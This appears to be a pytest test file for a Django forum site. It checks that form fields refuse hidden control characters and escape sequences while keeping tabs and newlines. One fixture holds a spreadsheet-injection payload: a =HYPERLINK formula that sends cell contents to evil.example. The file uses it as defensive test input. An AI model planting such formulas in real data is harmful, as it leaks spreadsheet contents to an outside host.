"""Control characters no keyboard types are refused next to the field in every form
members type into: what was typed is kept, nothing is stored. Tabs and newlines stay.
"""

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django_comments_xtd.models import XtdComment

from accounts.factories import UserFactory
from core.forms import refuse_control_characters
from forums.factories import ThreadFactory
from forums.models import Thread
from gaps.models import DataGap

pytestmark = pytest.mark.django_db

# A spreadsheet formula behind an invisible character, as pasted into a form.
FORMULA = '\x01=HYPERLINK("https://evil.example/?"&A1, "Click")'
REFUSED = "Remove the hidden control character (U+0001) from this text"


@pytest.fixture
def member(client):
    member = UserFactory(sector="academic")
    client.force_login(member)
    return member


@pytest.mark.parametrize(
    "text",
    ["a\x01b", "a\x08b", "a\x0bb", "a\x0cb", "a\x0eb", "a\x1bb", "a\x1fb", "a\x7fb"],
)
def test_each_control_character_is_refused(text):
    with pytest.raises(ValidationError) as refused:
        refuse_control_characters(text)
    assert refused.value.code == "control_character"


def test_a_lone_surrogate_is_refused():
    with pytest.raises(ValidationError, match="U\\+D800"):
        refuse_control_characters("half a pair: \ud800")


@pytest.mark.parametrize(
    "text", ["Tabs\tand\r\nnewlines\n", "ünïcødé ☃ 😀 – “quoted”", "=SUM(A1:A2)", ""]
)
def test_ordinary_text_tabs_and_newlines_pass(text):
    refuse_control_characters(text)


def test_a_thread_title_with_a_control_character_is_refused_next_to_it(
    client, housing, member
):
    response = client.post(
        reverse("forums:new_thread", kwargs={"theme_slug": housing.slug}),
        {
            "kind": "question",
            "title": FORMULA,
            "body": "Line one\n\tindented line two",
            "action": "post",
        },
    )

    page = response.content.decode()
    assert response.status_code == 200
    assert '<p id="id_title-error" class="govuk-error-message">' in page
    assert REFUSED in page
    assert "HYPERLINK(&quot;https://evil.example/?&quot;" in page  # kept as typed
    assert "id_body-error" not in page  # a tab and a newline are fine
    assert not Thread.objects.exists()


def test_a_thread_body_with_escape_sequences_is_refused(client, housing, member):
    response = client.post(
        reverse("forums:new_thread", kwargs={"theme_slug": housing.slug}),
        {
            "kind": "discussion",
            "title": "Rents",
            "body": "red \x1b[31mtext\x1b[0m",
            "action": "post",
        },
    )

    page = response.content.decode()
    assert "id_body-error" in page
    assert "(U+001B)" in page
    assert not Thread.objects.exists()


def test_a_reply_with_a_control_character_is_refused(client, housing, member):
    thread = ThreadFactory(theme=housing, title="Overcrowding")

    response = client.post(
        reverse(
            "forums:reply",
            kwargs={"theme_slug": housing.slug, "pk": thread.pk, "slug": thread.slug},
        ),
        {"comment": "See \x7fthe table"},
    )

    page = response.content.decode()
    assert "id_comment-error" in page
    assert "(U+007F)" in page
    assert "See \x7fthe table" in page
    assert not XtdComment.objects.exists()


def test_a_data_gap_with_a_control_character_is_refused(client, housing, member):
    response = client.post(
        reverse("gaps:new_gap", kwargs={"theme_slug": housing.slug}),
        {
            "title": "Overcrowding by local authority",
            "measure": "Overcrowded households.",
            "geography": "Local\x0cauthority",
            "purpose": FORMULA,
        },
    )

    page = response.content.decode()
    assert "id_geography-error" in page
    assert "id_purpose-error" in page
    assert not DataGap.objects.exists()


def test_a_profile_with_a_control_character_is_refused_and_not_saved(client, member):
    response = client.post(
        reverse("edit_profile"),
        {"first_name": "Ada", "last_name": "Byron", "bio": FORMULA, "sector": ""},
    )

    assert response.status_code == 200
    assert "id_bio-error" in response.content.decode()
    member.refresh_from_db()
    assert member.bio == ""


def test_areas_of_expertise_with_a_control_character_are_refused(client, member):
    response = client.post(
        reverse("edit_profile"),
        {"first_name": "Ada", "last_name": "Byron", "expertise": "census, s\x02mall"},
    )

    assert "id_expertise-error" in response.content.decode()
    member.refresh_from_db()
    assert not member.expertise.exists()
